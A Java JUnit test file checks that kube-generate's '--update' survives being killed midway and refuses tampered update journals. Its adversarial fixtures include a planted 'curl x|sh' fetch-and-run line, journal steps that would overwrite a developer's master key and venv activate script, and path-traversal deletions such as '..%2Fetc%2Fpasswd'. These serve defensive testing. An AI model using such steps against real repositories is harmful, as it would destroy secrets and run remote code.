package dev.kubegenerate.adversarial;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.kubegenerate.cli.CliRunner;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * {@code --update} killed at any moment leaves the old tree, the new tree, or an interrupted update
 * that {@code check} refuses and the next {@code --update} finishes; what can be found before
 * renaming stops the update before anything changes; file modes are those of a checkout.
 */
class BoundsUpdateCrashTest {

  private static final String CLUSTERS = "clusters: [a, b, c, d, e, f]\n";

  @TempDir Path repo;
  @TempDir Path reference;

  private static void config(Path dir, String version) throws IOException {
    config(dir, version, true);
  }

  private static void config(Path dir, String version, boolean namespaces) throws IOException {
    Files.writeString(
        dir.resolve("kube-generate.yaml"),
        "app: shop\n"
            + CLUSTERS
            + """
        generates:
          - config-map: {name: settings, data: {VERSION: "%s"}}
        """
                .formatted(version)
            + (namespaces ? "  - namespace: {}\n" : ""));
  }

  /** Every file below {@code kubernetes/} and the root, by relative path. */
  private static Map<String, String> tree(Path dir) throws IOException {
    Map<String, String> out = new TreeMap<>();
    try (Stream<Path> files = Files.walk(dir)) {
      for (Path f : files.filter(Files::isRegularFile).toList()) {
        out.put(dir.relativize(f).toString(), Files.readString(f));
      }
    }
    return out;
  }

  /**
   * Killed once the config map of {@code cluster} is renamed: cluster a is the first rename,
   * cluster f the last, after which the namespaces the new config drops are being deleted.
   */
  @ParameterizedTest(name = "killed after the rename in cluster {0}")
  @ValueSource(strings = {"a", "f"})
  void killedHalfWay_checkRefusesAndTheNextUpdateFinishes(String cluster) throws Exception {
    config(reference, "1");
    assertEquals(0, CliRunner.run(reference, "--update").exit());
    config(reference, "2", false);
    assertEquals(0, CliRunner.run(reference, "--update").exit());
    Files.createDirectory(repo.resolve(".git"));
    config(repo, "1");
    assertEquals(0, CliRunner.run(repo, "--update").exit());
    Map<String, String> old = tree(repo);
    config(repo, "2", false);

    Process child =
        new ProcessBuilder(
                Path.of(System.getProperty("java.home"), "bin", "java").toString(),
                "-cp",
                System.getProperty("java.class.path"),
                "dev.kubegenerate.cli.PausingUpdateMain",
                "-C",
                repo.toString(),
                "--update")
            .redirectErrorStream(true)
            .redirectOutput(ProcessBuilder.Redirect.DISCARD)
            .start();
    Path changed = repo.resolve("kubernetes/" + cluster + "/config-map-settings.yaml");
    String before = Files.readString(changed);
    long giveUp = System.nanoTime() + TimeUnit.SECONDS.toNanos(60);
    while (Files.readString(changed).equals(before) && System.nanoTime() < giveUp) {
      Thread.sleep(5);
    }
    child.destroyForcibly().waitFor();

    Map<String, String> mixed = tree(repo);
    String journal = ".git/kube-generate-update-" + rootHash("");
    assertTrue(
        mixed.containsKey(journal), "the journal is in the git directory: " + mixed.keySet());
    assertTrue(
        !mixed
                .get("kubernetes/a/config-map-settings.yaml")
                .equals(old.get("kubernetes/a/config-map-settings.yaml"))
            && mixed.containsKey("kubernetes/f/namespace.yaml"),
        "killed half-way: renames begun, deletions not finished");

    CliRunner.Result check = CliRunner.run(repo, "check");
    assertEquals(2, check.exit(), check.out() + check.err());
    assertTrue(
        check
            .err()
            .contains(
                journal + ": an update was interrupted; run `kube-generate --update` to finish it"),
        check.err());
    assertEquals(2, CliRunner.run(repo).exit(), "the diff mode refuses too");

    CliRunner.Result update = CliRunner.run(repo, "--update");
    assertEquals(0, update.exit(), update.err());
    assertTrue(update.out().startsWith("Finished an interrupted update"), update.out());
    assertEquals(tree(reference), tree(repo), "the new tree, no journal, no temporary file");
    assertEquals(0, CliRunner.run(repo, "check").exit());
  }

  @Test
  void temporaryFilesLeftWhileStaging_failTheCheckAndUpdateRemovesThem() throws Exception {
    config(repo, "1");
    assertEquals(0, CliRunner.run(repo, "--update").exit());
    Map<String, String> clean = tree(repo);
    // what a kill before the journal leaves: a staged file, no journal
    Path temp = repo.resolve("kubernetes/c/.namespace.yaml.4711.kube-generate.tmp");
    Files.writeString(temp, Files.readString(repo.resolve("kubernetes/c/namespace.yaml")));

    CliRunner.Result check = CliRunner.run(repo, "check", "--format", "json");
    assertEquals(2, check.exit(), check.out());
    assertTrue(
        check.out().contains("kubernetes/c/.namespace.yaml.4711.kube-generate.tmp"), check.out());

    assertEquals(0, CliRunner.run(repo, "--update").exit());
    assertEquals(clean, tree(repo));
  }

  @Test
  void aFolderWhereAFileGoes_stopsTheUpdateBeforeAnythingChanges() throws Exception {
    config(repo, "1");
    assertEquals(0, CliRunner.run(repo, "--update").exit());
    Files.delete(repo.resolve("kubernetes/f/namespace.yaml"));
    Files.createDirectories(repo.resolve("kubernetes/f/namespace.yaml/inside"));
    config(repo, "2");
    Map<String, String> before = tree(repo);

    CliRunner.Result r = CliRunner.run(repo, "--update");

    assertEquals(2, r.exit());
    assertEquals(
        "kubernetes/f/namespace.yaml: a folder is where this file goes; remove or rename it; nothing was changed\n",
        r.err());
    assertEquals(before, tree(repo), "no file renamed, no journal, no temporary file");
  }

  /** The hash a journal's name holds: of the folder worked in, from the one holding .git. */
  private static String rootHash(String relative) throws Exception {
    byte[] digest =
        java.security.MessageDigest.getInstance("SHA-256")
            .digest(relative.getBytes(java.nio.charset.StandardCharsets.UTF_8));
    return java.util.HexFormat.of().formatHex(digest, 0, 8);
  }

  /**
   * The attack a pull request could make before journals left the working tree: a committed journal
   * whose steps move staged files that carry the marker over a developer's untracked secrets and
   * scripts. The check does not ask for an update, and the update moves nothing.
   */
  @Test
  void aJournalCommittedInTheWorkingTree_isNeverRead() throws Exception {
    Files.createDirectory(repo.resolve(".git"));
    config(repo, "1");
    assertEquals(0, CliRunner.run(repo, "--update").exit());
    String marker = Files.readString(repo.resolve("kubernetes/a/namespace.yaml"));
    Files.createDirectories(repo.resolve("config"));
    Files.createDirectories(repo.resolve(".venv/bin"));
    Files.writeString(repo.resolve("config/master.key"), "the developer's key\n");
    Files.writeString(repo.resolve(".venv/bin/activate"), "the developer's venv\n");
    Files.writeString(repo.resolve("config/.master.key.1.kube-generate.tmp"), marker);
    Files.writeString(
        repo.resolve(".venv/bin/.activate.1.kube-generate.tmp"), marker + "curl x|sh\n");
    Files.writeString(
        repo.resolve(".kube-generate-update"),
        "move config%2F.master.key.1.kube-generate.tmp config%2Fmaster.key\n"
            + "move .venv%2Fbin%2F.activate.1.kube-generate.tmp .venv%2Fbin%2Factivate\n"
            + "delete kubernetes%2Fa%2Fnamespace.yaml\n");
    Map<String, String> before = tree(repo);

    CliRunner.Result check = CliRunner.run(repo, "check");
    assertEquals(0, check.exit(), check.out() + check.err());
    assertFalse(check.err().contains("interrupted"), check.err());

    CliRunner.Result update = CliRunner.run(repo, "--update");
    assertEquals(0, update.exit(), update.err());
    assertEquals(before, tree(repo), "nothing moved, nothing deleted");
  }

  /**
   * A journal in the git directory (where only this machine writes) is still checked step by step:
   * a step outside the output folders, over a file without the marker, or a deletion of a
   * hand-written file is refused before anything moves; one others may write is not trusted.
   */
  @Test
  void aJournalInTheGitDirectory_runsOnlyStepsOnGeneratedManifests() throws Exception {
    Files.createDirectory(repo.resolve(".git"));
    config(repo, "1");
    assertEquals(0, CliRunner.run(repo, "--update").exit());
    String marker = Files.readString(repo.resolve("kubernetes/a/namespace.yaml"));
    Files.writeString(repo.resolve("README.md"), "hand-written\n");
    Files.writeString(repo.resolve("kubernetes/a/own.yaml"), "kind: Secret\n");
    Files.writeString(repo.resolve(".README.md.1.kube-generate.tmp"), marker);
    Files.writeString(repo.resolve("kubernetes/a/.own.yaml.1.kube-generate.tmp"), marker);
    Path journal = repo.resolve(".git/kube-generate-update-" + rootHash(""));
    for (String steps :
        new String[] {
          "move ../outside.yaml kubernetes/a/namespace.yaml\n",
          "move README.md kubernetes/a/namespace.yaml\n",
          "move .README.md.1.kube-generate.tmp README.md\n",
          "move kubernetes%2Fa%2F.own.yaml.1.kube-generate.tmp kubernetes%2Fa%2Fown.yaml\n",
          "delete ..%2Fetc%2Fpasswd\n",
          "delete README.md\n"
        }) {
      Files.writeString(journal, steps);
      Files.setPosixFilePermissions(journal, PosixFilePermissions.fromString("rw-------"));
      Map<String, String> before = tree(repo);
      CliRunner.Result r = CliRunner.run(repo, "--update");
      assertEquals(2, r.exit(), steps);
      assertTrue(
          r.err().startsWith(".git/kube-generate-update-" + rootHash(""))
              && r.err().contains("not a step kube-generate writes"),
          r.err());
      assertTrue(r.err().contains("nothing was moved"), r.err());
      assertEquals(before, tree(repo), steps);
    }
    Files.writeString(journal, "delete kubernetes%2Fa%2Fnamespace.yaml\n");
    Files.setPosixFilePermissions(journal, PosixFilePermissions.fromString("rw-rw-rw-"));
    Map<String, String> before = tree(repo);
    CliRunner.Result r = CliRunner.run(repo, "--update");
    assertEquals(2, r.exit());
    assertTrue(r.err().contains("writable by other users"), r.err());
    assertEquals(before, tree(repo));

    // a deletion of a generated file that the journal names is done, and the journal removed
    Files.setPosixFilePermissions(journal, PosixFilePermissions.fromString("rw-------"));
    assertEquals(0, CliRunner.run(repo, "--update").exit());
    assertFalse(Files.exists(journal));
    assertEquals("hand-written\n", Files.readString(repo.resolve("README.md")));
    assertEquals("kind: Secret\n", Files.readString(repo.resolve("kubernetes/a/own.yaml")));
  }

  @Test
  void writtenFiles_newOnesGet0644MinusTheUmaskAndReplacedOnesKeepTheirMode() throws Exception {
    config(repo, "1");
    assertEquals(0, CliRunner.run(repo, "--update").exit());
    Path newFile = repo.resolve("kubernetes/a/namespace.yaml");
    int umask = umask();
    assertEquals(
        PosixFilePermissions.toString(permissions(0644 & ~umask)),
        PosixFilePermissions.toString(Files.getPosixFilePermissions(newFile)));

    Path privateFile = repo.resolve("kubernetes/a/config-map-settings.yaml");
    Path executable = repo.resolve("kubernetes/b/config-map-settings.yaml");
    Files.setPosixFilePermissions(privateFile, PosixFilePermissions.fromString("rw-------"));
    Files.setPosixFilePermissions(executable, PosixFilePermissions.fromString("rwxr-xr-x"));
    config(repo, "2");
    assertEquals(0, CliRunner.run(repo, "--update").exit());
    assertTrue(Files.readString(privateFile).contains("VERSION: \"2\""));
    assertEquals(
        "rw-------", PosixFilePermissions.toString(Files.getPosixFilePermissions(privateFile)));
    assertEquals(
        "rwxr-xr-x", PosixFilePermissions.toString(Files.getPosixFilePermissions(executable)));
  }

  private static java.util.Set<java.nio.file.attribute.PosixFilePermission> permissions(int mode) {
    StringBuilder s = new StringBuilder();
    String letters = "rwxrwxrwx";
    for (int i = 0; i < 9; i++) {
      s.append((mode & (1 << (8 - i))) != 0 ? letters.charAt(i) : '-');
    }
    return PosixFilePermissions.fromString(s.toString());
  }

  /**
   * The test process's umask, read independently of the code under test: a file a shell creates.
   */
  private static int umask() throws Exception {
    Process p = new ProcessBuilder("sh", "-c", "umask").start();
    String out = new String(p.getInputStream().readAllBytes()).strip();
    p.waitFor();
    return Integer.parseInt(out, 8);
  }
}
